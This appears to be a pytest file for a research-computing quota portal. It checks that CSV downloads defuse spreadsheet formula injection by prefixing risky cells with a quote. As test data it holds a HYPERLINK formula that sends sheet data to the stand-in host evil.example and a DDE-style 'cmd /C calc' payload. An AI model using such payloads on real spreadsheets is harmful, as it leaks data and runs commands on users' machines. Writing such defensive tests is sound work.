"""CSV downloads cannot carry a formula from a tenant into an auditor's spreadsheet.

Issue 11: every list a page downloads answers ``?format=csv``. Text a tenant chooses (a job's
command and metadata, an allocation request's justification; a job's name is held to letters,
digits, ``.``, ``_`` and ``-`` from the start) reaches the CSV an admin or auditor
opens in a spreadsheet; a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return would run there as a formula (``=HYPERLINK(...)`` sends whoever clicks it, with the
sheet's data, elsewhere). Each such cell is sent with a leading ``'``, so it reads as text;
numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from quotas.spreadsheets import defused
from tests.portal.conftest import Demo

TENANT = "jiwoo.jung"  # a researcher in kaist-nlp
PI = "seoyeon.lee"  # kaist-nlp's pi
AUDITOR = "auditor.kim"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"open me")'


def download(demo: Demo, path: str, user: str) -> list[dict[str, str]]:
    answer = demo.client.get(
        f"/api/v1{path}", params={"format": "csv", "limit": 500}, headers=demo.headers(user)
    )
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text)))


def test_a_job_written_as_a_formula_reaches_the_auditor_as_text(demo: Demo) -> None:
    body = {
        "project": "kaist-nlp",
        "entrypoint": HYPERLINK,
        "metadata": {"note": "+1+2"},
        "gpus": 1,
        "time_limit": "1h",
    }
    submitted = demo.client.post("/api/v1/jobs", json=body, headers=demo.headers(TENANT))
    assert submitted.status_code == 201, submitted.text

    [row] = download(demo, "/jobs", AUDITOR)

    assert row["entrypoint"] == "'" + HYPERLINK
    assert row["metadata"] == '{"note": "+1+2"}'  # a JSON object starts with {: no formula
    assert row["gpus"] == "1"


def test_a_justification_as_a_formula_reaches_the_program_manager_as_text(demo: Demo) -> None:
    body = {"project": "kaist-nlp", "requested": "100", "justification": "-2+3+cmd|' /C calc'"}
    drafted = demo.client.post("/api/v1/allocation-requests", json=body, headers=demo.headers(PI))
    assert drafted.status_code == 201, drafted.text

    rows = download(demo, "/allocation-requests", "jaehyun.kim")

    [row] = [each for each in rows if each["id"] == str(drafted.json()["id"])]
    assert row["justification"] == "'-2+3+cmd|' /C calc'"


@pytest.mark.parametrize(
    ("cell", "sent"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\t1", "'\t1"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("kaist-nlp", "kaist-nlp"),
        (-7, -7),
        (None, ""),
    ],
)
def test_each_cell_that_could_start_a_formula_is_defused(cell: object, sent: object) -> None:
    assert defused(cell) == sent
